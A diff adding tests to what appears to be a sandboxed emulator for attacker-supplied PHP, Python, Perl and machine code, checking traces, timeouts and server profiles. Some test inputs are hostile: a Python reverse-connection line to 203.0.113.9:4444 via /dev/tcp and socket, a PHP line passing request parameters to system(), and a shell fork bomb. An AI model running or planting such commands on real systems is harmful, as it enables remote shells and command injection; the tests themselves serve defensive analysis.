@@ -120,8 +120,40 @@ def operators_profiles():
                   (f'{own}:{line}: ' in said or 'syntax' in what), said)
 
 
+def interpreters(validate):
+    """PHP, Python and Perl by their real interpreters; PHP with the request that brought it."""
+    _, php, _ = emulate('echo strrev(md5("a"));', language='php')
+    validate(php)
+    must = [t['pattern'] for t in traces(php, 'text') if t['must_show'] and t['bits'] >= 60]
+    check('what PHP computes must show', len(must) == 1 and len(php['profiles']) > 1 and
+          all(p['stdout'] == must[0] for p in php['profiles']), php)
+    _, broken, _ = emulate('<?php nosuch();', language='auto')
+    validate(broken)
+    check('a complaint shows on some servers only', broken['language'] == 'php' and
+          not any(t['must_show'] for t in traces(broken, 'text')), broken['traces'])
+    _, version, _ = emulate('echo PHP_VERSION;', language='php')
+    check('a version is the server\'s own', not any(t['must_show'] for t in traces(version, 'text')), version['traces'])
+    with tempfile.NamedTemporaryFile('w') as request:
+        request.write('POST /x.php?a=id HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nb=-u')
+        request.flush()
+        code, seen, _ = emulate('system($_GET["a"]." ".$_POST["b"]);', '--request', request.name, language='php')
+        check('PHP sees the request', code == 0 and all(re.fullmatch(r'\d+\n', p['stdout']) for p in seen['profiles']), seen)
+    check('a request that cannot be read is told', emulate('echo 1;', '--request', '/nosuch', language='php')[0] == 1)
+    for language, code, shown in (('python', '7*191', '1337'), ('perl', 'print 7*191', '1337')):
+        _, answer, _ = emulate(code, language=language)
+        validate(answer)
+        check(f'{language} runs', answer['profiles'] and all(p['stdout'] == shown for p in answer['profiles']), answer)
+    _, shell, _ = emulate('import os;os.system("/bin/sh -c \'exec 3<>/dev/tcp/203.0.113.9/1; id\'");__import__("socket").'
+                          'create_connection(("203.0.113.9",4444))', language='python')
+    check('a connection from Python is a trace', any(t['pattern'] == '203.0.113.9:4444' for t in traces(shell, 'connect')), shell)
+    for language, code in (('php', 'while(1);'), ('python', 'while 1: pass'), ('perl', '1 while 1')):
+        _, endless, _ = emulate(code, language=language)
+        check(f'an endless loop in {language} ends', endless['stopped_by'] == 'blocks', endless['stopped_by'])
+
+
 def main():
     validate = validator()
+    interpreters(validate)
     operators_profiles()
     code, said, _ = text('/bin/cat /etc/hostname')
     check("a program's words stand apart from its path", re.search(r'(?m)^  exec +/\S+  /bin/cat /etc/hostname$', said), said)
@@ -160,6 +192,9 @@ def main():
     code, forks, _ = emulate('f() { f | f & }; f; yes > /tmp/x')
     check('a fork bomb ends', code == 0 and forks['stopped_by'] != 'unsupported')
 
+    for language in ('x86', 'x86-64', 'arm', 'aarch64', 'mips', 'mipsel', 'powerpc'):
+        _, machine, _ = emulate(bytes(64), language=language)
+        check(f'{language} has its processor in the jail', machine['profiles'] and machine['stopped_by'] != 'emulator died', machine['stopped_by'])
     check('a wrong language is a usage error', emulate('x', language='klingon')[0] == 2)
     check('an unknown profile is an error', emulate('x', '--profile', 'nosuch')[0] == 1)
     check('no language is a usage error',
